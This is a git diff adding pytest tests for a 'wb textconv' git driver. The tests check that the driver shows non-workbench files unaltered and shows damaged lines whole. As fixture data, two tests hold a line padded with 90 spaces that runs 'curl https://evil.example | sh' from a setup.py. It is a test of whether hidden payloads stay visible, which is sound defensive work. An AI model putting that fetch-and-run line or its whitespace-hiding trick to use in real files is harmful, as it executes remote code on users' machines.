@@ -62,21 +62,46 @@ def test_any_bytes_give_lines_and_never_raise(kind, raw):
     assert isinstance(lines, list) and all(isinstance(line, str) for line in lines)
 
 
+def _blob(tmp_path, name, data):
+    """A version of a workbench file as git hands it to a textconv: a temporary copy named after it."""
+    folder = tmp_path / f"git-blob-{len(list(tmp_path.glob('git-blob-*'))):06d}"
+    folder.mkdir()
+    (folder / name).write_bytes(data)
+    return str(folder / name)
+
+
 def test_empty_and_broken_files_exit_0_with_something_sensible(tmp_path, wb):
-    empty = tmp_path / "empty"
-    empty.write_bytes(b"")
-    broken = tmp_path / "broken"
-    broken.write_text('{"schema_version": 1, "tasks": [\n')
-    assert wb(tmp_path, "textconv", "board", str(empty)).stdout == "(empty board.json)\n"
-    assert wb(tmp_path, "textconv", "events", str(empty)).stdout == ""  # an empty log: no lines
-    r = wb(tmp_path, "textconv", "board", str(broken))
+    broken = b'{"schema_version": 1, "tasks": [\n'
+    assert wb(tmp_path, "textconv", "board", _blob(tmp_path, "board.json", b"")).stdout == "(empty board.json)\n"
+    assert wb(tmp_path, "textconv", "events", _blob(tmp_path, "events.jsonl", b"")).stdout == ""  # no lines
+    r = wb(tmp_path, "textconv", "board", _blob(tmp_path, "board.json", broken))
     assert r.returncode == 0
     assert r.stdout.splitlines() == ["(wb textconv: broken JSON at line 2; raw text follows)",
                                      '{"schema_version": 1, "tasks": [']
-    r = wb(tmp_path, "textconv", "state", str(broken))
+    r = wb(tmp_path, "textconv", "state", _blob(tmp_path, "state.md", broken))
     assert r.returncode == 0 and "must start with a '---' line" in r.stdout.splitlines()[0]
     r = wb(tmp_path, "textconv", "events", str(tmp_path / "missing"))
     assert r.returncode == 0 and r.stdout.startswith("(wb textconv: cannot read")
+
+
+def test_a_file_that_is_not_a_workbench_file_is_shown_as_it_is(tmp_path, wb):
+    """A root .gitattributes can route any path to wb's textconv: only the workbench file a KIND names gets
+    wb's view; any other file (its work-tree path, or git's temporary copy named after it) is printed byte for
+    byte, as git would show it without the driver."""
+    code = 'import os;' + ' ' * 90 + 'os.system("curl https://evil.example | sh")\n'
+    (tmp_path / "setup.py").write_text(code)
+    (tmp_path / "src").mkdir()
+    (tmp_path / "src" / "board.json").write_text('{"tasks": []}\n')
+    for kind in ("board", "events", "state", "calls"):
+        for file in ("setup.py", _blob(tmp_path, "setup.py", code.encode()), _blob(tmp_path, "a_setup.py", b"x")):
+            r = wb(tmp_path, "textconv", kind, file)
+            assert r.returncode == 0
+            assert r.stdout in (code, "x"), (kind, file, r.stdout)
+    assert wb(tmp_path, "textconv", "board", "src/board.json").stdout == '{"tasks": []}\n'
+    (tmp_path / ".workbench").mkdir()
+    (tmp_path / ".workbench" / "board.json").write_text('{"tasks": []}\n')
+    assert wb(tmp_path, "textconv", "board", ".workbench/board.json").stdout == "(no tasks)\n"
+    assert wb(tmp_path, "textconv", "state", ".workbench/board.json").stdout == '{"tasks": []}\n'
 
 
 def test_torn_last_event_is_shown_as_torn():
@@ -112,3 +137,11 @@ def test_git_diff_shows_the_wb_view_through_textconv(bench, repo, wb, git):
     assert "+T-001 [in_progress] build/builder  Parse the config" in out
     out = git(repo, "log", "-p", "-1", "--", ".workbench/events.jsonl")
     assert [line for line in out.splitlines() if line.startswith("+#")][0].startswith("+#3 ")
+
+
+def test_a_damaged_line_is_shown_whole():
+    """A line the events view cannot read was cut at 80 characters: padding hid its tail."""
+    line = "import os;" + " " * 90 + 'os.system("curl https://evil.example | sh")'
+    raw = (line + "\n" + line).encode()
+    lines = convert("events", raw)
+    assert lines == [f"(line 1: damaged: {line})", f"(torn last line (ignored by wb): {line})"]
